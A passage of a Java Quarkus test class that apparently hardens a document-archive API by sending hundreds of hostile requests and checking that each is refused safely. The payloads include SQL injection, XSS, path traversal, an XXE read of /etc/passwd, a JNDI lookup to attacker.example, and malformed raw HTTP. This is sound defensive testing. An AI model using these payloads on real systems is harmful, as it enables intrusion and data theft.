package archive.web;

import static archive.api.support.Accounts.asLibrarian;
import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import archive.api.support.Accounts;
import archive.core.account.Account;
import archive.core.account.ApiToken;
import archive.core.catalog.Document;
import archive.core.catalog.DocumentVersion;
import archive.core.config.ArchiveConfig;
import archive.core.storage.FileSystemBackend;
import archive.core.storage.ObjectStore;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import jakarta.inject.Inject;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.net.URI;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.Supplier;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/**
 * Hundreds of distinct hostile inputs against every endpoint. Each must be refused with a 4xx: problem+json from
 * the archive itself, or a bare status where the HTTP codec refuses the request before any route exists (oversized
 * or malformed request lines and headers, a chunked body beyond the size limit — Quarkus offers no hook there; a
 * malformed chunk may even just close the connection). Never a 5xx, and nothing stored: the documents, versions,
 * store objects, accounts and tokens are the same before and after.
 */
@QuarkusTest
class HostileInputTest {

    private static final String SEED = "095111aef963144d";
    private static final String PROBLEM = "application/problem+json";
    private static final HttpClient HTTP = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

    @Inject
    ObjectStore store;

    @Inject
    ArchiveConfig config;

    @TestHTTPResource("/")
    URL server;

    /** One hostile request; {@code codec} marks those refused before routing, which cannot carry problem+json. */
    private record Attack(String category, Supplier<Answer> send, boolean codec) {
    }

    private record Answer(int status, String contentType, String body) {
        static Answer of(Response response) {
            return new Answer(response.statusCode(), response.contentType(), response.asString());
        }
    }

    private record State(long documents, long versions, long storeObjects, long accounts, long tokens,
            long pendingWrites) {
    }

    private final Map<String, Attack> attacks = new LinkedHashMap<>();

    @Test
    void refusesEveryHostileInputWithoutA5xxAndStoresNothing() {
        String victim = Accounts.create("victim", "reader");
        badDocumentIds();
        badVersionNumbers();
        badPaging();
        badDigests();
        badRanges();
        badEntityTags();
        badUploads();
        badContentTypes();
        badMultipart();
        badJson(victim);
        badCredentials();
        badAccountAndTokenIds();
        badMethodsAndMediaTypes();
        rawProtocolAbuse();

        State before = state();
        Map<String, Integer> refused = new TreeMap<>();
        List<String> serverErrors = new ArrayList<>();
        List<String> unexplained = new ArrayList<>();
        attacks.forEach((description, attack) -> {
            Answer answer = attack.send().get();
            boolean dropped = answer.status() == 0 && attack.codec(); // the codec closed the connection mid-body
            if (answer.status() >= 500) {
                serverErrors.add(answer.status() + " for " + description + ": " + answer.body());
            } else if (answer.status() < 400 && !dropped) {
                unexplained.add(answer.status() + " (not refused) for " + description);
            } else if (!attack.codec() && !isProblem(answer) && !(isForPeople(description) && isErrorPage(answer))) {
                unexplained.add(answer.status() + " without problem+json for " + description + ": " + answer.body());
            }
            refused.merge(attack.category() + (attack.codec() ? " (HTTP codec)" : ""), 1, Integer::sum);
        });
        State after = state();

        System.out.printf("hostile input: %d distinct bad inputs sent, %d answered 5xx, %d not refused properly%n",
                attacks.size(), serverErrors.size(), unexplained.size());
        refused.forEach((category, count) -> System.out.printf("  %-34s %d%n", category, count));
        serverErrors.forEach(error -> System.out.println("  5xx: " + error));
        unexplained.forEach(error -> System.out.println("  unexplained: " + error));
        assertTrue(attacks.size() >= 300, "hundreds of distinct inputs: " + attacks.size());
        assertEquals(List.of(), serverErrors, "zero 5xx");
        assertEquals(List.of(), unexplained, "every refusal is a 4xx with problem details");
        assertEquals(before, after, "nothing was stored, not even in part");
    }

    /**
     * What an archive must take, but never let loose: hostile file names are stored sanitized, and texts full of
     * script and SQL are kept byte for byte and served as inert plain text.
     */
    @Test
    void keepsHostileNamesSanitizedAndHostileTextsInert() {
        List<String> names = List.of("../../etc/passwd", "..\\..\\windows\\system32\\config", "/absolute/path.txt",
                "a\u0000b.txt", "line\nbreak.txt", "\u202egpj.exe", "....txt", "<script>alert(1)</script>.txt",
                "'; DROP TABLE document;--.txt", "%2e%2e%2fetc%2fpasswd", "C:\\evil.txt", "tabs\tin\tname.txt",
                "a".repeat(1000) + ".txt", "\u0007bell.txt", "./.hidden");
        List<String> texts = List.of("'; DROP TABLE document; --", "<script>alert(document.cookie)</script>",
                "<img src=x onerror=alert(1)>", "{{7*7}} ${7*7} #{7*7}", "${jndi:ldap://attacker.example/x}",
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
                "\" OR 1=1 UNION SELECT password_hash FROM account --", "javascript:alert(1)",
                "<svg/onload=alert(1)>", "\u202eRTL override and zero\u200bwidth");
        int sent = 0;
        for (String name : names) {
            // a raw line break cannot stand in a multipart header: that form is refused (see the other test)
            for (boolean multipart : name.contains("\n") ? List.of(false) : List.of(false, true)) {
                byte[] text = archive.api.support.Texts.utf8(archive.api.support.Texts.unique("A document with a hostile name"));
                Response stored = multipart
                        ? asLibrarian().multiPart("file", name, text, "text/plain").post("/api/v1/documents")
                        : asLibrarian().contentType("text/plain").queryParam("filename", name).body(text)
                                .post("/api/v1/documents");
                assertEquals(201, stored.statusCode(), name + (multipart ? " (multipart): " : ": ") + stored.asString());
                String kept = stored.path("originalFileName");
                assertTrue(kept.length() <= 200 && !kept.startsWith(".") && kept.chars().noneMatch(c -> c == '/'
                        || c == '\\' || Character.isISOControl(c)), name + " was stored as " + kept);
                sent++;
            }
        }
        for (String hostile : texts) {
            byte[] text = archive.api.support.Texts.utf8(archive.api.support.Texts.unique(hostile));
            String id = asLibrarian().contentType("text/plain").body(text).post("/api/v1/documents")
                    .then().statusCode(201).extract().path("id");
            Response served = given().get("/api/v1/documents/{id}/text", id);
            served.then().statusCode(200).contentType("text/plain; charset=utf-8")
                    .header("X-Content-Type-Options", "nosniff")
                    .header("Content-Security-Policy", org.hamcrest.Matchers.containsString("default-src 'self'"));
            org.junit.jupiter.api.Assertions.assertArrayEquals(text, served.asByteArray());
            sent++;
        }
        System.out.printf("hostile input: %d distinct hostile names and texts accepted, names sanitized, texts "
                + "served byte-exact as inert text/plain%n", sent);
    }

    /** Requests outside /api and /q are for people: they get an HTML page that explains the refusal. */
    private static boolean isForPeople(String description) {
        return !(description.contains(" /api") || description.contains(" /q/") || description.contains(" /q "));
    }

    private static boolean isErrorPage(Answer answer) {
        return answer.contentType() != null && answer.contentType().startsWith("text/html")
                && answer.body().contains("· Archive</title>") && !answer.body().contains("Exception");
    }

    private static boolean isProblem(Answer answer) {
        return answer.contentType() != null && answer.contentType().startsWith(PROBLEM)
                && answer.body().contains("\"status\":" + answer.status()) && answer.body().contains("\"detail\":\"");
    }

    // ---- the inputs ----

    private static final List<String> BAD_IDS = List.of("0", "ffff", "ffffffffffffffff0", "FFFFFFFFFFFFFFFF",
            "ghijklmnopqrstuv", "%00", "%00abc", SEED + "%00", "..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fetc",
            "%27%20OR%20%271%27%3D%271", "1%3BDROP%20TABLE%20document", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "%E2%80%AE", "%F0%9F%92%A3", "%ff%fe", "%C0%AE%C0%AE", "a".repeat(2000), SEED + "%0d%0aX-Injected:1",
            "%25", "null", "-1", "1e10", SEED + ".", "%20" + SEED, SEED.toUpperCase(), "%09", "$%7Bjndi:x%7D");

    private void badDocumentIds() {
        for (String id : BAD_IDS) {
            for (String path : List.of("", "/text", "/events", "/versions/1", "/versions/1/text")) {
                add("document ids", "GET /api/v1/documents/" + id + path,
                        () -> raw().get("/api/v1/documents/" + id + path));
            }
            add("document ids", "PUT /api/v1/documents/" + id + "/text", () -> raw(asLibrarian())
                    .contentType("text/plain").body("new version of nothing").put("/api/v1/documents/" + id + "/text"));
        }
    }

    private void badVersionNumbers() {
        for (String n : List.of("0", "-1", "99999999999", "2147483648", "1.5", "1e3", "one", "%00", "1%20", "0x1",
                "%2B1", "NaN", "%E2%85%A0", "01%00")) {
            add("version numbers", "GET versions/" + n, () -> raw().get("/api/v1/documents/" + SEED + "/versions/" + n));
            add("version numbers", "GET versions/" + n + "/text",
                    () -> raw().get("/api/v1/documents/" + SEED + "/versions/" + n + "/text"));
        }
    }

    private void badPaging() {
        for (String value : List.of("0", "-1", "-2147483648", "2147483648", "99999999999999999999", "abc", "1.5",
                "1e3", "%00", "1%3BDROP%20TABLE%20document", "%3Cscript%3E", "%27%20OR%201%3D1", "0x10",
                "%E2%80%AE1", "1%20OR%201")) {
            for (String parameter : List.of("page", "size")) {
                add("page numbers", "GET /api/v1/documents?" + parameter + "=" + value,
                        () -> raw().get("/api/v1/documents?" + parameter + "=" + value));
            }
        }
    }

    private void badDigests() {
        for (String hex : List.of("0", "g".repeat(64), "0".repeat(63), "0".repeat(65), "%00", "..%2F..",
                "%3Cscript%3E", "0".repeat(64) + "%00", "sha256-" + "0".repeat(57))) {
            add("content digests", "GET /api/v1/content/sha256/" + hex,
                    () -> raw().get("/api/v1/content/sha256/" + hex));
        }
    }

    private void badRanges() {
        for (String range : List.of("bytes=", "bytes=-", "bytes=abc", "bytes=5-1", "bytes=999999-", "bytes=-0",
                "bytes=99999999999999999999-", "bytes=0-99999999999999999999", "bytes=--1", "bytes=1-2-3",
                "0-1", "bytes=0x10-", "bytes=1-\t2", "bytes=%00", "bytes=-99999999999999999999")) {
            add("Range headers", "Range: " + range, () -> given().header("Range", range)
                    .get("/api/v1/documents/{id}/text", SEED));
        }
    }

    private static final List<String> BAD_TAGS = List.of("\"", "\"abc", "abc", "W/", "W/abc", "\"a\" \"b\"", ",",
            "\"a\",,", "\"a\"\"b\"", "W/\"a", "\"a\" junk", "**");

    private void badEntityTags() {
        for (String tag : BAD_TAGS) {
            add("If-None-Match headers", "If-None-Match: " + tag, () -> given().header("If-None-Match", tag)
                    .get("/api/v1/documents/{id}/text", SEED));
            add("If-Match headers", "If-Match: " + tag, () -> asLibrarian().header("If-Match", tag)
                    .contentType("text/plain").body("a change").put("/api/v1/documents/{id}/text", SEED));
        }
        add("If-Match headers", "If-Match: stale ETag", () -> asLibrarian().header("If-Match", "\"" + "0".repeat(64)
                + "\"").contentType("text/plain").body("a lost update").put("/api/v1/documents/{id}/text", SEED));
        add("If-Match headers", "If-Match: weak copy of the current ETag", () -> asLibrarian()
                .header("If-Match", "W/" + given().get("/api/v1/documents/{id}/text", SEED).header("ETag"))
                .contentType("text/plain").body("a weak update").put("/api/v1/documents/{id}/text", SEED));
    }

    /** Content the archive must refuse, as a text body, as a multipart file, and as a new version of a seed. */
    private void badUploads() {
        Map<String, byte[]> bodies = new LinkedHashMap<>();
        bodies.put("empty", new byte[0]);
        bodies.put("lone 0xFF", bytes(0xff));
        bodies.put("invalid continuation", bytes('a', 0xc3, 0x28));
        bodies.put("lone continuation bytes", bytes(0xa0, 0xa1));
        bodies.put("broken 3-byte sequence", bytes(0xe2, 0x28, 0xa1));
        bodies.put("broken 3-byte tail", bytes(0xe2, 0x82, 0x28));
        bodies.put("broken 4-byte sequence", bytes(0xf0, 0x28, 0x8c, 0xbc));
        bodies.put("5-byte sequence", bytes(0xf8, 0x88, 0x80, 0x80, 0x80));
        bodies.put("overlong slash", bytes(0xc0, 0xaf));
        bodies.put("overlong NUL", bytes('x', 0xc0, 0x80));
        bodies.put("encoded surrogate", bytes(0xed, 0xa0, 0x80));
        bodies.put("truncated character", bytes('x', 0xe2, 0x82));
        bodies.put("Latin-1 text", bytes('c', 'a', 'f', 0xe9));
        bodies.put("UTF-16LE with BOM", bytes(0xff, 0xfe, 'h', 0, 'i', 0));
        bodies.put("UTF-8 BOM then invalid", bytes(0xef, 0xbb, 0xbf, 0xff));
        bodies.put("NUL inside text", "abc\0def".getBytes(StandardCharsets.UTF_8));
        bodies.put("only NUL", bytes(0));
        bodies.put("terminal escape sequence", "red \u001b[31m alert".getBytes(StandardCharsets.UTF_8));
        bodies.put("backspaces", "over\b\b\bwritten".getBytes(StandardCharsets.UTF_8));
        bodies.put("DEL byte", bytes('a', 0x7f));
        bodies.put("PNG renamed .txt", bytes(0x89, 'P', 'N', 'G', 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d));
        bodies.put("PDF renamed .txt", "%PDF-1.7\n1 0 obj\n<< /Length 4 >>\nstream\n\u0000\u0001\u0002\u0003"
                .getBytes(StandardCharsets.ISO_8859_1));
        bodies.put("ZIP renamed .txt", bytes('P', 'K', 3, 4, 20, 0, 0, 0));
        bodies.put("GIF renamed .txt", bytes('G', 'I', 'F', '8', '9', 'a', 1, 0, 1, 0));
        bodies.put("JPEG renamed .txt", bytes(0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 'J', 'F', 'I', 'F'));
        bodies.put("ELF renamed .txt", bytes(0x7f, 'E', 'L', 'F', 2, 1, 1, 0));
        bodies.put("gzip renamed .txt", bytes(0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0));
        bodies.put("class file renamed .txt", bytes(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x41));
        bodies.put("SQLite renamed .txt", "SQLite format 3\0".getBytes(StandardCharsets.US_ASCII));
        bodies.put("WebAssembly renamed .txt", bytes(0, 'a', 's', 'm', 1, 0, 0, 0));
        Random random = new Random(20261123);
        for (int i = 0; i < 5; i++) {
            byte[] noise = new byte[64 + random.nextInt(4096)];
            random.nextBytes(noise);
            bodies.put("random bytes #" + i, noise);
        }
        bodies.put("one byte over the upload limit", "a".repeat((int) config.maxUploadBytes() + 1)
                .getBytes(StandardCharsets.US_ASCII));

        bodies.forEach((name, body) -> {
            add("uploaded content", "POST text/plain: " + name, () -> asLibrarian().contentType("text/plain")
                    .body(body).post("/api/v1/documents?filename=evil.txt"));
            add("uploaded content", "POST multipart: " + name, () -> asLibrarian()
                    .multiPart("file", "evil.txt", body, "text/plain").post("/api/v1/documents"));
            add("uploaded content", "PUT new version: " + name, () -> asLibrarian().contentType("text/plain")
                    .header("If-Match", "*").body(body).put("/api/v1/documents/{id}/text", SEED));
        });
    }

    private void badContentTypes() {
        for (String type : List.of("application/pdf", "image/png", "application/octet-stream", "text/html",
                "application/json", "application/xml", ";;;", "multipart/form-data", "multipart/form-data; boundary=",
                "text/csv", "application/x-www-form-urlencoded")) {
            byte[] words = "Plain words.".getBytes(StandardCharsets.UTF_8);
            attack("content types", "POST documents as " + type, () -> http("POST", "/api/v1/documents", words,
                    "Content-Type", type));
            attack("content types", "PUT version as " + type, () -> http("PUT", "/api/v1/documents/" + SEED + "/text",
                    words, "Content-Type", type, "If-Match", "*"));
        }
        attack("content types", "POST documents without a content type", () -> http("POST", "/api/v1/documents",
                "x".getBytes(StandardCharsets.UTF_8)));
    }

    private void badMultipart() {
        String boundary = "hostile";
        Map<String, String> forms = new LinkedHashMap<>();
        forms.put("no closing boundary", "--hostile\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a"
                + ".txt\"\r\n\r\nabc");
        forms.put("no parts", "--hostile--\r\n");
        forms.put("part without disposition", "--hostile\r\n\r\nabc\r\n--hostile--\r\n");
        forms.put("wrong part name", "--hostile\r\nContent-Disposition: form-data; name=\"document\"; filename=\"a"
                + ".txt\"\r\n\r\nabc\r\n--hostile--\r\n");
        forms.put("empty file part", "--hostile\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt"
                + "\"\r\n\r\n\r\n--hostile--\r\n");
        forms.put("garbage", "this is not multipart at all");
        forms.put("line break in the file name", "--hostile\r\nContent-Disposition: form-data; name=\"file\"; "
                + "filename=\"line\nbreak.txt\"\r\n\r\nabc\r\n--hostile--\r\n");
        forms.put("binary file part", "--hostile\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt"
                + "\"\r\nContent-Type: text/plain\r\n\r\nGIF89a\u0001\u0000\r\n--hostile--\r\n");
        forms.forEach((name, form) -> attack("multipart forms", "multipart: " + name, () -> http("POST",
                "/api/v1/documents", form.getBytes(StandardCharsets.ISO_8859_1), "Content-Type",
                "multipart/form-data; boundary=" + boundary)));
    }

    private static final List<String> MALFORMED_JSON = List.of("", "{", "}", "[]", "null", "\"string\"", "42",
            "{\"a\":}", "{'a':1}", "{\"a\":1,}", "{\"a\" 1}", "{\"a\":NaN}", "\u0000", "[".repeat(5000),
            "{\"x\":" + "[".repeat(2000) + "]".repeat(2000) + "}", "{\"x\":1e999999}", "{\"__proto__\":{}}",
            "{\"unknown\":1}", "\ufeff{\"x\":1}", "{\"a\":\"\\ud800\"}");

    private void badJson(String victim) {
        for (String json : MALFORMED_JSON) {
            json("malformed JSON", "POST /api/v1/imports", json, () -> asLibrarian(), "/api/v1/imports", false);
            json("malformed JSON", "POST /api/v1/tokens", json, () -> asLibrarian(), "/api/v1/tokens", false);
            json("malformed JSON", "POST /api/v1/accounts", json, () -> Accounts.asAdmin(), "/api/v1/accounts",
                    false);
            json("malformed JSON", "PATCH /api/v1/accounts/victim", json, () -> Accounts.asAdmin(),
                    "/api/v1/accounts/" + victim, true);
        }
        add("malformed JSON", "POST /api/v1/tokens: invalid UTF-8", () -> asLibrarian().contentType("application/json")
                .body(bytes('{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', 0xff, '"', '}')).post("/api/v1/tokens"));
        add("malformed JSON", "POST /api/v1/tokens: duplicate keys", () -> asLibrarian().contentType("application/json")
                .body("{\"name\":\"a\",\"name\":\"b\"}").post("/api/v1/tokens"));
        add("malformed JSON", "POST /api/v1/tokens: trailing garbage", () -> asLibrarian()
                .contentType("application/json").body("{\"name\":\"a\"} trailing").post("/api/v1/tokens"));

        for (String folder : List.of("null", "\"\"", "\"../../etc\"", "\"/etc\"", "\"a\\u0000b\"", "5", "[\"a\"]",
                "\"../../../../../../etc/passwd\"", "\"C:\\\\Windows\"", "\"no-such-folder\"",
                "\"'; DROP TABLE document; --\"", "\"<script>alert(1)</script>\"", "true")) {
            json("import folders", "POST /api/v1/imports folder=" + folder, "{\"folder\":" + folder + "}",
                    () -> asLibrarian(), "/api/v1/imports", false);
        }
        for (String fields : List.of("\"name\":\"\"", "\"name\":\"" + "x".repeat(101) + "\"", "\"name\":\"a\\u0000b\"",
                "\"name\":\"\\n\"", "\"name\":5", "\"name\":true", "\"name\":null", "\"name\":[\"a\"]",
                "\"name\":\"ok\",\"expiresAt\":\"2001-01-01T00:00:00Z\"", "\"name\":\"ok\",\"expiresAt\":\"tomorrow\"",
                "\"name\":\"ok\",\"expiresAt\":\"+100000-01-01T00:00:00Z\"", "\"name\":\"ok\",\"account\":\"nobody\"",
                "\"name\":\"ok\",\"account\":\"\\u0000\"", "\"name\":\"ok\",\"scope\":\"all\"",
                "\"name\":\"ok\",\"expiresAt\":{}")) {
            json("token requests", "POST /api/v1/tokens {" + fields + "}", "{" + fields + "}", () -> Accounts.asAdmin(),
                    "/api/v1/tokens", false);
        }
        String password = "\"password\":\"" + Accounts.PASSWORD + "\"";
        for (String fields : List.of("\"username\":\"\"," + password + ",\"roles\":[\"reader\"]",
                "\"username\":\"" + "a".repeat(65) + "\"," + password + ",\"roles\":[\"reader\"]",
                "\"username\":\"../x\"," + password + ",\"roles\":[\"reader\"]",
                "\"username\":\"a b\"," + password + ",\"roles\":[\"reader\"]",
                "\"username\":\"a\\u0000\"," + password + ",\"roles\":[\"reader\"]",
                "\"username\":\"<script>\"," + password + ",\"roles\":[\"reader\"]",
                "\"username\":\"'; drop table account;--\"," + password + ",\"roles\":[\"reader\"]",
                "\"username\":\"admin\"," + password + ",\"roles\":[\"reader\"]",
                "\"username\":\"hostile-a\",\"password\":\"short\",\"roles\":[\"reader\"]",
                "\"username\":\"hostile-b\",\"password\":\"" + "é".repeat(40) + "\",\"roles\":[\"reader\"]",
                "\"username\":\"hostile-c\",\"password\":null,\"roles\":[\"reader\"]",
                "\"username\":\"hostile-d\",\"password\":5,\"roles\":[\"reader\"]",
                "\"username\":\"hostile-e\"," + password + ",\"roles\":[]",
                "\"username\":\"hostile-f\"," + password + ",\"roles\":[\"root\"]",
                "\"username\":\"hostile-g\"," + password + ",\"roles\":[null]",
                "\"username\":\"hostile-h\"," + password + ",\"roles\":\"admin\"",
                "\"username\":\"hostile-i\"," + password + ",\"roles\":[1]",
                "\"username\":\"hostile-j\"," + password, "\"username\":5," + password + ",\"roles\":[\"reader\"]")) {
            json("account requests", "POST /api/v1/accounts {" + fields + "}", "{" + fields + "}",
                    () -> Accounts.asAdmin(), "/api/v1/accounts", false);
        }
        for (String change : List.of("\"roles\":[]", "\"roles\":[\"root\"]", "\"roles\":[null]", "\"roles\":\"admin\"",
                "\"enabled\":\"false\"", "\"enabled\":1", "\"enabled\":null,\"x\":1", "\"password\":\"short\"",
                "\"password\":7", "\"isAdmin\":true")) {
            json("account changes", "PATCH {" + change + "}", "{" + change + "}", () -> Accounts.asAdmin(),
                    "/api/v1/accounts/" + victim, true);
        }
    }

    private void json(String category, String what, String json, Supplier<RequestSpecification> client, String path,
            boolean patch) {
        add(category, what + " " + json, () -> {
            RequestSpecification request = client.get().contentType("application/json")
                    .body(json.getBytes(StandardCharsets.UTF_8));
            return patch ? request.patch(path) : request.post(path);
        });
    }

    private void badCredentials() {
        List<String> authorizations = new ArrayList<>(List.of("Basic", "Basic !!!", "Basic ====", "Bearer",
                "Bearer x", "Bearer archive_" + "A".repeat(43), "Bearer " + "A".repeat(5000), "bearer  archive_x",
                "Digest username=\"x\"", "Negotiate abc", "Basic YWxhZGRpbjpvcGVuc2VzYW1l extra", "Basic\tabc",
                "Bearer archive_%00", "Bearer ' OR '1'='1"));
        for (byte[] credentials : List.of("nocolon".getBytes(StandardCharsets.UTF_8), ":".getBytes(
                StandardCharsets.UTF_8), "hostile-user:wrong".getBytes(StandardCharsets.UTF_8),
                "a\0b:c".getBytes(StandardCharsets.UTF_8), bytes(0xff, 0xfe, ':', 'c'),
                ("x".repeat(6000) + ":y").getBytes(StandardCharsets.UTF_8),
                "' OR '1'='1:' OR '1'='1".getBytes(StandardCharsets.UTF_8),
                "<script>:x".getBytes(StandardCharsets.UTF_8))) {
            authorizations.add("Basic " + Base64.getEncoder().encodeToString(credentials));
        }
        for (String authorization : authorizations) {
            add("credentials", "Authorization: " + authorization.substring(0, Math.min(60, authorization.length()))
                    + " (" + authorization.length() + " chars)", () -> given().header("Authorization", authorization)
                    .post("/api/v1/audits/fixity"));
        }
        for (String cookie : List.of("garbage", "", "%%%", "a".repeat(3000))) {
            add("credentials", "forged session cookie " + cookie.length(), () -> given()
                    .cookie("quarkus-credential", cookie).post("/api/v1/audits/fixity"));
        }
        attack("credentials", "login form with a JSON body", () -> http("POST", "/j_security_check",
                "{\"j_username\":\"admin\"}".getBytes(StandardCharsets.UTF_8), "Content-Type", "application/json"));
        attack("credentials", "login form without a body", () -> http("POST", "/j_security_check", new byte[0]));
    }

    private void badAccountAndTokenIds() {
        for (String name : List.of("%00", "..", "%2e%2e%2fadmin", "a".repeat(300), "%27%20OR%201%3D1",
                "%3Cscript%3E", "admin%00", "%E2%80%AE")) {
            add("account names", "GET /api/v1/accounts/" + name, () -> raw(Accounts.asAdmin())
                    .get("/api/v1/accounts/" + name));
            add("account names", "GET /api/v1/accounts/" + name + "/events", () -> raw(Accounts.asAdmin())
                    .get("/api/v1/accounts/" + name + "/events"));
        }
        for (String id : List.of("-1", "0", "abc", "99999999999999999999", "%00", "1.5", "1%3BDROP", "999999999")) {
            add("token ids", "DELETE /api/v1/tokens/" + id, () -> raw(asLibrarian()).delete("/api/v1/tokens/" + id));
        }
    }

    private void badMethodsAndMediaTypes() {
        for (String method : List.of("TRACE", "PROPFIND", "PATCH", "DELETE", "PUT")) {
            add("methods", method + " /api/v1/documents", () -> asLibrarian().request(method, "/api/v1/documents"));
        }
        add("methods", "POST /api/v1/documents/{id}", () -> asLibrarian().post("/api/v1/documents/{id}", SEED));
        add("methods", "DELETE /api/v1/documents/{id}", () -> asLibrarian().delete("/api/v1/documents/{id}", SEED));
        add("methods", "GET /api/v1/audits/fixity", () -> asLibrarian().get("/api/v1/audits/fixity"));
        add("methods", "GET /api/v1/imports", () -> asLibrarian().get("/api/v1/imports"));
        add("media types", "Accept: application/xml on the list", () -> given().accept("application/xml")
                .get("/api/v1/documents"));
        add("media types", "Accept: image/png on the text", () -> given().accept("image/png")
                .get("/api/v1/documents/{id}/text", SEED));
        add("media types", "Accept: text/html on a document", () -> given().accept("text/html")
                .get("/api/v1/documents/{id}", SEED));
        add("paths", "GET /api/v1/nothing", () -> given().get("/api/v1/nothing"));
        add("paths", "GET /api/v1/%2e%2e/%2e%2e/etc/passwd", () -> raw().get("/api/v1/%2e%2e/%2e%2e/etc/passwd"));
        add("paths", "GET /WEB-INF/web.xml", () -> given().get("/WEB-INF/web.xml"));
        add("paths", "GET /.env", () -> given().get("/.env"));
    }

    /** Requests no HTTP library would send: written to the socket byte by byte. */
    private void rawProtocolAbuse() {
        String host = "Host: localhost\r\n";
        rawAttack("request size", "headers over the size limit", false, true, "GET /api/v1/documents HTTP/1.1\r\n" + host
                + "X-Big: " + "a".repeat(40_000) + "\r\n\r\n");
        rawAttack("request size", "a thousand headers", false, true, "GET /api/v1/documents HTTP/1.1\r\n" + host
                + "X-Many: 0123456789012345678901234567890123456789\r\n".repeat(1000) + "\r\n");
        rawAttack("request size", "a URL of 10 000 characters", false, true, "GET /api/v1/documents?"
                + "a".repeat(10_000) + " HTTP/1.1\r\n" + host + "\r\n");
        rawAttack("request size", "a declared body over the limit", true, false, "POST /api/v1/documents HTTP/1.1\r\n"
                + host + "Content-Type: text/plain\r\nContent-Length: 70000000\r\n\r\n");
        rawAttack("request size", "a chunked body over the limit", false, true, null);
        rawAttack("protocol", "Content-Length not a number", false, true, "POST /api/v1/documents HTTP/1.1\r\n" + host
                + "Content-Length: abc\r\n\r\n");
        rawAttack("protocol", "negative Content-Length", false, true, "POST /api/v1/documents HTTP/1.1\r\n" + host
                + "Content-Length: -1\r\n\r\n");
        rawAttack("protocol", "two different Content-Lengths", false, true, "POST /api/v1/documents HTTP/1.1\r\n"
                + host + "Content-Length: 1\r\nContent-Length: 2\r\n\r\nab");
        rawAttack("protocol", "NUL in the request line", false, true, "GET /api/v1/documents/\0 HTTP/1.1\r\n" + host
                + "\r\n");
        rawAttack("protocol", "header line without a colon", false, true, "GET /api/v1/documents HTTP/1.1\r\n" + host
                + "this is not a header\r\n\r\n");
        rawAttack("protocol", "undecodable percent-encoding in the query", false, true,
                "GET /api/v1/documents?page=%zz HTTP/1.1\r\n" + host + "\r\n");
        rawAttack("protocol", "invalid chunk size", false, true, "POST /api/v1/documents HTTP/1.1\r\n" + host
                + "Content-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n");
        rawAttack("protocol", "a control character in a header value", false, true,
                "GET /api/v1/documents HTTP/1.1\r\n" + host + "X-Evil: a\u0001b\r\n\r\n");
    }

    // ---- plumbing ----

    private void add(String category, String description, Supplier<Response> request) {
        attack(category, description, () -> Answer.of(request.get()));
    }

    private void attack(String category, String description, Supplier<Answer> request) {
        attacks.put(category + ": " + description, new Attack(category, request, false));
    }

    /** Any method, any headers, any bytes, as the librarian: nothing interprets the content type on the way. */
    private Answer http(String method, String path, byte[] body, String... headers) {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(server.toString()).resolve(path))
                .method(method, HttpRequest.BodyPublishers.ofByteArray(body))
                .header("Authorization", "Basic " + Base64.getEncoder().encodeToString((Accounts.ADMIN + ":"
                        + Accounts.ADMIN_PASSWORD).getBytes(StandardCharsets.UTF_8)));
        for (int i = 0; i < headers.length; i += 2) {
            request.header(headers[i], headers[i + 1]);
        }
        try {
            HttpResponse<String> response = HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
            return new Answer(response.statusCode(), response.headers().firstValue("Content-Type").orElse(null),
                    response.body());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    /** {@code problem}: refused by the archive (problem+json); {@code codec}: by the HTTP codec (bare status). */
    private void rawAttack(String category, String description, boolean problem, boolean codec, String request) {
        attacks.put(category + ": " + description, new Attack(category, () -> request == null ? chunkedOverLimit()
                : sendRaw(request.getBytes(StandardCharsets.ISO_8859_1)), codec && !problem));
    }

    /** A body larger than quarkus.http.limits.max-body-size, sent chunked so no length announces it. */
    private Answer chunkedOverLimit() {
        try (Socket socket = new Socket(server.getHost(), server.getPort())) {
            socket.setSoTimeout(60_000);
            OutputStream out = socket.getOutputStream();
            out.write(("POST /api/v1/documents HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/plain\r\n"
                    + "Authorization: Basic " + Base64.getEncoder().encodeToString((Accounts.ADMIN + ":"
                    + Accounts.ADMIN_PASSWORD).getBytes(StandardCharsets.UTF_8))
                    + "\r\nTransfer-Encoding: chunked\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
            byte[] chunk = "a".repeat(1 << 20).getBytes(StandardCharsets.US_ASCII);
            try {
                for (int i = 0; i < 70; i++) {
                    out.write((Integer.toHexString(chunk.length) + "\r\n").getBytes(StandardCharsets.US_ASCII));
                    out.write(chunk);
